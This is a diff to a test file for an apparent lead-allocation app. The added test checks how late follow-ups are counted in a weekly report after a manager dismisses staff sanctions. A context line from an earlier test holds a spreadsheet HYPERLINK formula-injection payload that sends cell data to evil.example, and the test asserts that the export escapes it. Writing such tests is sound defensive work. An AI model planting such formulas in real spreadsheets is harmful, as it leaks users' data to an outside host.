@@ -180,3 +180,42 @@ describe('the weekly report (W1)', () => {
     expect(sheet?.data[1]?.[1]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"点我")');
   });
 });
+
+describe('the weekly report after a sanction is set aside', () => {
+  let app: SeededApp;
+  beforeAll(async () => {
+    app = await openSeededApp('2026-11-27T09:00:00+08:00');
+  }, 120_000);
+  afterAll(async () => {
+    await app?.close();
+  });
+
+  it('counts a follow-up late only while one of its D1 sanctions stands', async () => {
+    // A D1 sanction, the allocation it judges, and every D1 sanction citing that allocation.
+    const sanctions = await app.db.selectFrom('decisions').select(['decision_id', 'staff_id', 'cause', 'at']).where('rule', '=', 'D1').where('kind', 'in', ['staff.paused', 'staff.fined']).orderBy('seq').execute();
+    const first = sanctions[0];
+    if (first === undefined) throw new Error('the history has no D1 sanction');
+    const source = historyEvents.find((e) => first.cause.includes(e.id) && (e.type === 'lead.allocate' || e.type === 'lead.assigned'));
+    const allocatedAt = source === undefined ? first.at.getTime() - FOLLOW_UP_MS : Date.parse(source.at);
+    const citing = sanctions.filter((d) => d.staff_id === first.staff_id && d.cause.some((c) => first.cause.includes(c)));
+    const week = await findWeek(app, weekOf(zoneOf('Asia/Shanghai'), allocatedAt).key);
+    if (week === null || week === undefined) throw new Error('no week');
+    const lateOf = async (): Promise<number> => (await weeklyReport(app, week)).rows.find((r) => r.staffId === first.staff_id)?.followUpsLate ?? -1;
+    const before = await lateOf();
+    expect(before).toBeGreaterThan(0);
+
+    const manager = historyEvents.find((e) => e.type === 'staff.joined' && e.role === 'manager');
+    if (manager === undefined || manager.type !== 'staff.joined') throw new Error('no manager');
+    const at = new Date(Date.parse(historyEvents[historyEvents.length - 1]?.at ?? '') + 60_000).toISOString();
+    // All but the last set aside: the follow-up still counts late.
+    const dismiss = (d: { decision_id: string }, i: number): AllotEvent => ({ id: `dismiss-${i}`, type: 'decision.dismissed', at, decisionId: d.decision_id, by: manager.staffId, reason: 'test' }) as AllotEvent;
+    if (citing.length > 1) {
+      const ingested = await app.runtime.ingest(citing.slice(0, -1).map(dismiss));
+      expect(ingested.rejected).toEqual([]);
+      expect(await lateOf()).toBe(before);
+    }
+    const last = await app.runtime.ingest([dismiss(citing[citing.length - 1] as { decision_id: string }, citing.length)]);
+    expect(last.rejected).toEqual([]);
+    expect(await lateOf()).toBe(before - 1);
+  });
+});
